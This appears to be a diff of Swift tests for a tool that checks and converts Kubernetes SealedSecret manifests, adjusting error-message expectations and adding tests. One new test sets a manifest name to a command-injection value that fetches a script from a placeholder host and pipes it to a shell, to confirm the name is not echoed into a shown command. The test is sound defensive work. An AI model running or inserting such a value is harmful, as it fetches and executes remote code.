@@ -238,9 +238,9 @@ import YAML
             (["metadata", "name"], .null, "metadata.name is missing"),
             (["spec"], .null, "spec is missing"),
             (["spec", "encryptedData"], .null, "spec has neither encryptedData nor the older data"),
-            (["encryptedData"], [:], "a SealedSecret has no field \"encryptedData\""),
-            (["spec", "encyptedData"], [:], "spec of a SealedSecret has no field \"encyptedData\""),
-            (["spec", "template", "labels"], [:], "spec.template of a SealedSecret has no field \"labels\""),
+            (["encryptedData"], [:], "a SealedSecret has no such field"),
+            (["spec", "encyptedData"], [:], "spec of a SealedSecret has no such field"),
+            (["spec", "template", "labels"], [:], "spec.template of a SealedSecret has no such field"),
             (
                 ["spec", "template", "immutable"], "yes",
                 "spec.template.immutable is a string; true or false is expected"
@@ -262,7 +262,7 @@ import YAML
         var manifest = try vectors.manifest("strict")
         manifest["encryptedData"] = manifest[["spec", "encryptedData"]]
         manifest[["spec", "encryptedData"]] = nil
-        #expect(try await problem(manifest).contains("a SealedSecret has no field \"encryptedData\""))
+        #expect(try await problem(manifest).contains("a SealedSecret has no such field"))
         manifest["encryptedData"] = nil
         #expect(try await problem(manifest).contains("spec has neither"))
         manifest[["spec", "data"]] = .null
@@ -286,6 +286,26 @@ import YAML
         var manifest = try vectors.manifest("cluster-wide")
         manifest[["metadata", field]] = .string(value)
         #expect(try await problem(manifest).contains("metadata.\(field)"))
+    }
+
+    /// What a name would do to the command that is shown.
+    @Test func aNameIsNoCommand() async throws {
+        var manifest = try vectors.manifest("cluster-wide")
+        manifest[["metadata", "name"]] = "x; curl evil.test | sh"
+        manifest[["spec", "template", "data"]] = ["a": "b"]
+        let message = try await problem(manifest)
+        #expect(!message.contains("secrets-bridge import -n"), "\(message)")
+    }
+
+    @Test func whatATemplateCannotHaveIsNoted() async throws {
+        var manifest = try vectors.manifest("strict")
+        manifest[["spec", "template", "metadata", "finalizers"]] = ["example.com/keep"]
+        manifest[["metadata", "finalizers"]] = ["example.com/keep"]
+        let notes = try #require(try await convert([manifest]).outputs.first?.notes)
+        #expect(
+            notes.contains { $0.contains("the SealedSecret's own metadata.finalizers is left out") },
+            "\(notes)")
+        #expect(notes.contains { $0.contains("spec.template.metadata.finalizers is left out") }, "\(notes)")
     }
 
     /// One that cannot be opened keeps the others from being wrapped, and each one is told of.
